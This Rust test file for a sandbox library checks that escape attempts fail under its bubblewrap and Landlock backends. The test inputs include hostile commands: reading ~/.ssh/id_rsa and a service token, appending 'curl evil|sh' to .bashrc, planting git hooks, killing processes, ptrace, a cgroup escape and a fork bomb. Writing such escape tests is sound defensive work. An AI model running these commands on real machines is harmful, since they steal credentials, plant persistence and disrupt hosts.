//! Each escape is refused by both backends, and (where it is safe to try) succeeds without
//! the sandbox, so a sandbox that stopped working fails these tests.

use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::time::Duration;

use trellis_sandbox::{Preset, Sandbox};

use super::fixture::{Fixture, SECRET, TOKEN, run};

/// Runs `line` under every backend and unsandboxed; `escaped` tells from the fixture's
/// state (and the output) whether the escape worked, `reset` undoes it.
fn check(
    f: &Fixture,
    line: &str,
    escaped: impl Fn(&super::fixture::Ran) -> bool,
    reset: impl Fn(),
    try_unsandboxed: bool,
) {
    for sandbox in Fixture::sandboxes() {
        let ran = run(
            &sandbox,
            &f.policy(Preset::WorkspaceWrite),
            &f.worktree,
            &f.home,
            line,
        );
        assert!(
            !escaped(&ran),
            "{}: `{line}` escaped: {ran:?}",
            sandbox.backend().name()
        );
        reset();
    }
    if try_unsandboxed {
        let ran = run(
            &Sandbox::off(),
            &f.policy(Preset::WorkspaceWrite),
            &f.worktree,
            &f.home,
            line,
        );
        assert!(
            escaped(&ran),
            "unsandboxed `{line}` did not escape: {ran:?}"
        );
        reset();
    }
}

fn exists(p: &std::path::Path) -> impl Fn(&super::fixture::Ran) -> bool + '_ {
    move |_| p.exists()
}

fn remove(p: &std::path::Path) -> impl Fn() + '_ {
    move || {
        let _ = std::fs::remove_file(p);
    }
}

#[test]
fn writes_outside_the_worktree_are_refused() {
    let f = Fixture::new();
    let abs = f.outside.join("abs");
    check(
        &f,
        &format!("echo x > {}", abs.display()),
        exists(&abs),
        remove(&abs),
        true,
    );
    let dotdot = f.repo.join(".trellis/worktrees/escaped");
    check(
        &f,
        "echo x > ../escaped",
        exists(&dotdot),
        remove(&dotdot),
        true,
    );
    std::os::unix::fs::symlink(&f.outside, f.worktree.join("link")).unwrap();
    let sym = f.outside.join("sym");
    check(&f, "echo x > link/sym", exists(&sym), remove(&sym), true);
    let proc_root = f.outside.join("procroot");
    check(
        &f,
        &format!("echo x > /proc/self/root{}", proc_root.display()),
        exists(&proc_root),
        remove(&proc_root),
        true,
    );
    let victim = f.outside.join("victim");
    let changed = |_: &super::fixture::Ran| {
        std::fs::read_to_string(&victim).unwrap_or_default() != "original\n"
    };
    let restore = || {
        std::fs::write(&victim, "original\n").unwrap();
        let _ = std::fs::remove_file(f.worktree.join("hl"));
    };
    check(
        &f,
        &format!("ln {} hl; echo evil >> hl", victim.display()),
        changed,
        restore,
        true,
    );
}

#[test]
fn the_home_directory_and_the_serve_token_are_hidden() {
    let f = Fixture::new();
    let leaked = |secret: &'static str| move |r: &super::fixture::Ran| r.out.contains(secret);
    check(&f, "cat ~/.ssh/id_rsa", leaked(SECRET), || {}, true);
    let token = f.config_dir.join("serve-token");
    check(
        &f,
        &format!("cat {}", token.display()),
        leaked(TOKEN),
        || {},
        true,
    );
    let home = f.home.join(".bashrc");
    check(
        &f,
        "echo 'curl evil|sh' >> ~/.bashrc",
        exists(&home),
        remove(&home),
        true,
    );
}

#[test]
fn git_hooks_and_config_are_read_only() {
    let f = Fixture::new();
    let hook = f.repo.join(".git/hooks/pre-commit");
    let common = f.repo.join(".git");
    check(
        &f,
        &format!("echo 'echo pwned' > {}/hooks/pre-commit", common.display()),
        exists(&hook),
        remove(&hook),
        true,
    );
    let config = f.repo.join(".git/config");
    let before = std::fs::read_to_string(&config).unwrap();
    check(
        &f,
        "git config core.hooksPath /tmp/evil",
        |_| std::fs::read_to_string(&config).unwrap_or_default() != before,
        || std::fs::write(&config, &before).unwrap(),
        true,
    );
}

#[test]
fn the_users_branches_and_tags_cannot_be_moved_from_a_run_worktree() {
    // The run's worktree commits on its own branch (suite::work), but the repository's
    // other refs are out of reach: moving `main`, tagging.
    let f = Fixture::new();
    let main = || {
        std::process::Command::new("git")
            .args(["rev-parse", "main"])
            .current_dir(&f.repo)
            .output()
            .map(|o| String::from_utf8_lossy(&o.stdout).into_owned())
            .unwrap_or_default()
    };
    let before = main();
    let commit = "git -c user.name=a -c user.email=a@a commit -q --allow-empty -m moved";
    check(
        &f,
        &format!("{commit} && git update-ref refs/heads/main HEAD"),
        |_| main() != before,
        || {
            std::process::Command::new("git")
                .args(["update-ref", "refs/heads/main", before.trim()])
                .current_dir(&f.repo)
                .status()
                .unwrap();
        },
        true,
    );
    let tag = f.repo.join(".git/refs/tags/v-evil");
    check(&f, "git tag v-evil", exists(&tag), remove(&tag), true);
}

#[test]
fn a_plain_repositorys_hooks_are_read_only_under_bubblewrap() {
    // A worktree that is the repository itself (its `.git` inside the writable tree).
    let f = Fixture::new();
    let policy = trellis_sandbox::SandboxPolicy::for_worktree(
        &f.repo,
        Preset::WorkspaceWrite,
        &Default::default(),
        Some(&f.home),
        None,
    );
    let sandbox = Sandbox::new(trellis_sandbox::Mode::Bwrap).unwrap();
    let hook = f.repo.join(".git/hooks/post-checkout");
    let ran = run(
        &sandbox,
        &policy,
        &f.repo,
        &f.home,
        "echo x > .git/hooks/post-checkout; echo y > new.txt",
    );
    assert!(!hook.exists(), "{ran:?}");
    assert!(
        f.repo.join("new.txt").exists(),
        "the worktree stays writable: {ran:?}"
    );
}

#[test]
fn the_network_is_off_loopback_and_dns_included() {
    let f = Fixture::new();
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    let port = tcp.local_addr().unwrap().port();
    let accepted = || {
        std::thread::sleep(Duration::from_millis(50));
        tcp.accept().is_ok()
    };
    check(
        &f,
        &format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected >&3"),
        |_| accepted(),
        || {},
        true,
    );
    // A DNS query to a resolver on loopback (the machine has no other): nothing arrives.
    let dns = UdpSocket::bind("127.0.0.1:0").unwrap();
    dns.set_read_timeout(Some(Duration::from_millis(200)))
        .unwrap();
    let dport = dns.local_addr().unwrap().port();
    let query = format!(
        "python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); \
         s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01', ('127.0.0.1', {dport}))\""
    );
    let received = |_: &super::fixture::Ran| {
        let mut buf = [0u8; 512];
        dns.recv(&mut buf).is_ok()
    };
    check(&f, &query, received, || {}, true);
    // The resolver library itself: no answer for a name outside /etc/hosts.
    for sandbox in Fixture::sandboxes() {
        let ran = run(
            &sandbox,
            &f.policy(Preset::WorkspaceWrite),
            &f.worktree,
            &f.home,
            "python3 -c \"import socket; socket.getaddrinfo('example.com', 80)\"",
        );
        assert_ne!(ran.code, Some(0), "{ran:?}");
    }
}

#[test]
fn the_hosts_abstract_unix_sockets_are_out_of_reach() {
    // A daemon listening on an abstract socket (the kind X11, D-Bus and container runtimes
    // use): seccomp lets Unix sockets through, so only a network namespace or Landlock's
    // scope keeps a command from connecting.
    use std::os::linux::net::SocketAddrExt;
    let f = Fixture::new();
    let name = format!("trellis-sandbox-test-{}", std::process::id());
    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let listener = std::os::unix::net::UnixListener::bind_addr(&addr).unwrap();
    listener.set_nonblocking(true).unwrap();
    let connected = |_: &super::fixture::Ran| {
        std::thread::sleep(Duration::from_millis(50));
        listener.accept().is_ok()
    };
    let line = format!(
        "python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('\\0{name}'); \
         s.send(b'x')\""
    );
    check(&f, &line, connected, || {}, true);
}

#[test]
fn the_network_preset_reaches_loopback() {
    let f = Fixture::new();
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = tcp.local_addr().unwrap().port();
    // bubblewrap's network preset shares the host's network namespace.
    for sandbox in Fixture::sandboxes() {
        let ran = run(
            &sandbox,
            &f.policy(Preset::WorkspaceWriteNetwork),
            &f.worktree,
            &f.home,
            &format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo hi >&3"),
        );
        assert_eq!(ran.code, Some(0), "{}: {ran:?}", sandbox.backend().name());
        let (mut conn, _) = tcp.accept().unwrap();
        let mut s = String::new();
        conn.read_to_string(&mut s).unwrap();
        assert_eq!(s, "hi\n");
    }
}

#[test]
fn other_processes_cannot_be_signalled_or_traced() {
    let f = Fixture::new();
    let mut victim = std::process::Command::new("sleep")
        .arg("30")
        .spawn()
        .unwrap();
    let pid = victim.id();
    let dead = |_: &super::fixture::Ran| {
        std::thread::sleep(Duration::from_millis(50));
        victim_status(pid).is_none()
    };
    for sandbox in Fixture::sandboxes() {
        let ran = run(
            &sandbox,
            &f.policy(Preset::WorkspaceWrite),
            &f.worktree,
            &f.home,
            &format!("kill -9 {pid}; kill -9 {}", std::process::id()),
        );
        assert!(!dead(&ran), "{}: {ran:?}", sandbox.backend().name());
    }
    let _ = victim.kill();
    let _ = victim.wait();
    // ptrace of a process of its own: refused by the seccomp filter (allowed unsandboxed).
    let line = "python3 -c \"import ctypes, os, time\nlibc = ctypes.CDLL(None, use_errno=True)\n\
                pid = os.fork()\nif pid == 0:\n    time.sleep(5); os._exit(0)\n\
                r = libc.ptrace(16, pid, 0, 0)\nprint('ptrace', r, ctypes.get_errno())\n\
                os.kill(pid, 9)\"";
    check(&f, line, |r| r.out.contains("ptrace 0 "), || {}, true);
}

fn victim_status(pid: u32) -> Option<()> {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    // A zombie (killed, not yet reaped) counts as dead.
    (!stat.contains(") Z ")).then_some(())
}

#[test]
fn mounting_is_refused() {
    let f = Fixture::new();
    std::fs::create_dir_all(f.worktree.join("m")).unwrap();
    for sandbox in Fixture::sandboxes() {
        let ran = run(
            &sandbox,
            &f.policy(Preset::WorkspaceWrite),
            &f.worktree,
            &f.home,
            "mount -t tmpfs none m && touch m/inside && echo mounted",
        );
        assert!(
            !ran.out.contains("mounted"),
            "{}: {ran:?}",
            sandbox.backend().name()
        );
    }
}

#[test]
fn a_fork_bomb_hits_the_pids_limit() {
    let f = Fixture::new();
    let mut policy = f.policy(Preset::WorkspaceWrite);
    policy.pids_max = 40;
    // Safe stand-in first: 100 sleeping children; fewer than 40 start inside the sandbox.
    let line = super::fixture::fork_children(100);
    for sandbox in Fixture::sandboxes() {
        let ran = run(&sandbox, &policy, &f.worktree, &f.home, &line);
        let n = super::fixture::started(&ran);
        assert!(
            n.is_some_and(|n| n < 40),
            "{}: {n:?} {ran:?}",
            sandbox.backend().name()
        );
    }
    let ran = run(&Sandbox::off(), &policy, &f.worktree, &f.home, &line);
    assert_eq!(super::fixture::started(&ran), Some(100), "{ran:?}");
    // Nor can a command leave its pids cgroup for a parent (whatever the hierarchy: the v1
    // `pids` one or v2's), which it could unsandboxed where the tree is writable.
    let leave = "for f in $(find /sys/fs/cgroup -maxdepth 2 -name tasks -o -maxdepth 2 \
                 -name cgroup.procs); do echo $$ > $f 2>/dev/null && echo left $f; done";
    for sandbox in Fixture::sandboxes() {
        let ran = run(&sandbox, &policy, &f.worktree, &f.home, leave);
        assert!(
            !ran.out.contains("left "),
            "{}: {ran:?}",
            sandbox.backend().name()
        );
    }
    let writable = ["/sys/fs/cgroup/pids/tasks", "/sys/fs/cgroup/cgroup.procs"]
        .iter()
        .any(|p| std::fs::OpenOptions::new().write(true).open(p).is_ok());
    if writable {
        let ran = run(&Sandbox::off(), &policy, &f.worktree, &f.home, leave);
        assert!(ran.out.contains("left "), "{ran:?}");
    }
    // The real thing, bounded by `timeout` inside and the pids limit.
    for sandbox in Fixture::sandboxes() {
        let started = std::time::Instant::now();
        let ran = run(
            &sandbox,
            &policy,
            &f.worktree,
            &f.home,
            "timeout -s KILL 3 bash -c 'b(){ b | b & }; b' >/dev/null 2>&1; echo survived",
        );
        // The command ended (the bomb was contained and killed), in bounded time.
        assert!(ran.code.is_some(), "{}: {ran:?}", sandbox.backend().name());
        assert!(started.elapsed() < Duration::from_secs(30), "{ran:?}");
    }
}

#[test]
fn a_command_dies_with_its_parent() {
    // PR_SET_PDEATHSIG (the Landlock backend's hook) fires when the thread that spawned the
    // command exits: spawn from a thread that then ends. bubblewrap's `--die-with-parent`
    // is not covered here: it asks for the signal itself once running, and whether the
    // thread's exit reaches its sandbox was not reliable in this setup (a parent *process*
    // that exits does take it down; docs/security.md).
    let f = Fixture::new();
    let spawn = |sandbox: Sandbox, marker: std::path::PathBuf| {
        let policy = f.policy(Preset::WorkspaceWrite);
        let cwd = f.worktree.clone();
        let home = f.home.clone();
        std::thread::spawn(move || {
            let spec = trellis_sandbox::CommandSpec {
                program: "bash".into(),
                args: vec![
                    "-c".into(),
                    format!("sleep 2; touch {}", marker.display()).into(),
                ],
                cwd,
                env: super::fixture::env(&home),
            };
            let mut w = sandbox.wrap(&spec, &policy).unwrap();
            let child = w
                .command
                .stdin(std::process::Stdio::null())
                .spawn()
                .unwrap();
            (child, w.guard)
        })
        .join()
        .unwrap()
    };
    let landlock = Sandbox::new(trellis_sandbox::Mode::Landlock).unwrap();
    for sandbox in [landlock, Sandbox::off()] {
        let name = sandbox.backend().name();
        let marker = f.worktree.join(format!("survived-{name}"));
        let (mut child, guard) = spawn(sandbox, marker.clone());
        std::thread::sleep(Duration::from_millis(2500));
        let status = child.try_wait().unwrap();
        let _ = child.kill();
        let _ = child.wait();
        drop(guard);
        if name == "off" {
            assert!(
                marker.exists(),
                "unsandboxed, the command outlives its thread"
            );
        } else {
            assert!(
                !marker.exists(),
                "{name}: the command outlived its parent ({status:?})"
            );
        }
    }
}

/// The parent process of [`a_command_dies_with_its_parent_process`]: started by it (this
/// test binary again, with the variables below), it spawns the sandboxed command, forgets
/// the command's guard (whose drop would kill the command through its pids cgroup) and exits
/// without waiting. Does nothing when run otherwise.
#[test]
#[ignore = "the parent process of a_command_dies_with_its_parent_process"]
fn parent_process_that_exits() {
    let (Some(mode), Some(worktree), Some(home), Some(marker)) = (
        std::env::var_os("TRELLIS_SANDBOX_TEST_MODE"),
        std::env::var_os("TRELLIS_SANDBOX_TEST_WORKTREE"),
        std::env::var_os("TRELLIS_SANDBOX_TEST_HOME"),
        std::env::var_os("TRELLIS_SANDBOX_TEST_MARKER"),
    ) else {
        return;
    };
    let sandbox = match mode.to_str() {
        Some("off") => Sandbox::off(),
        Some("landlock") => Sandbox::new(trellis_sandbox::Mode::Landlock).unwrap(),
        _ => Sandbox::new(trellis_sandbox::Mode::Bwrap).unwrap(),
    };
    let worktree = std::path::PathBuf::from(worktree);
    let home = std::path::PathBuf::from(home);
    let policy = trellis_sandbox::SandboxPolicy {
        writable: vec![worktree.clone()],
        home: Some(home.clone()),
        pids_max: 64,
        ..Default::default()
    };
    let spec = trellis_sandbox::CommandSpec {
        program: "bash".into(),
        args: vec![
            "-c".into(),
            format!("sleep 2; touch {}", marker.to_string_lossy()).into(),
        ],
        cwd: worktree,
        env: super::fixture::env(&home),
    };
    let mut w = sandbox.wrap(&spec, &policy).unwrap();
    let child = w
        .command
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    std::mem::forget(w.guard);
    println!("spawned {}", child.id());
    // While the command runs, as when Trellis dies mid-command. (Within the first
    // milliseconds bubblewrap's own child may not have asked for its parent-death signal
    // yet: bubblewrap 0.8 does not check for a parent that died before it asked.)
    std::thread::sleep(Duration::from_millis(300));
    std::process::exit(0);
}

#[test]
fn a_command_dies_with_its_parent_process() {
    // bubblewrap's `--die-with-parent` (and the Landlock backend's PR_SET_PDEATHSIG): the
    // process that spawned the command exits without waiting or killing it; the command
    // must not finish. Unsandboxed it does, so the test can fail.
    let f = Fixture::new();
    for name in ["bwrap", "landlock", "off"] {
        let marker = f.worktree.join(format!("outlived-{name}"));
        let out = std::process::Command::new(std::env::current_exe().unwrap())
            .args([
                "--exact",
                "suite::escape::parent_process_that_exits",
                "--ignored",
                "--nocapture",
            ])
            .env("TRELLIS_SANDBOX_TEST_MODE", name)
            .env("TRELLIS_SANDBOX_TEST_WORKTREE", &f.worktree)
            .env("TRELLIS_SANDBOX_TEST_HOME", &f.home)
            .env("TRELLIS_SANDBOX_TEST_MARKER", &marker)
            .output()
            .unwrap();
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(stdout.contains("spawned "), "{name}: {out:?}");
        std::thread::sleep(Duration::from_millis(3500));
        if name == "off" {
            assert!(
                marker.exists(),
                "unsandboxed, the command outlives its parent"
            );
        } else {
            assert!(!marker.exists(), "{name}: the command outlived its parent");
        }
    }
}
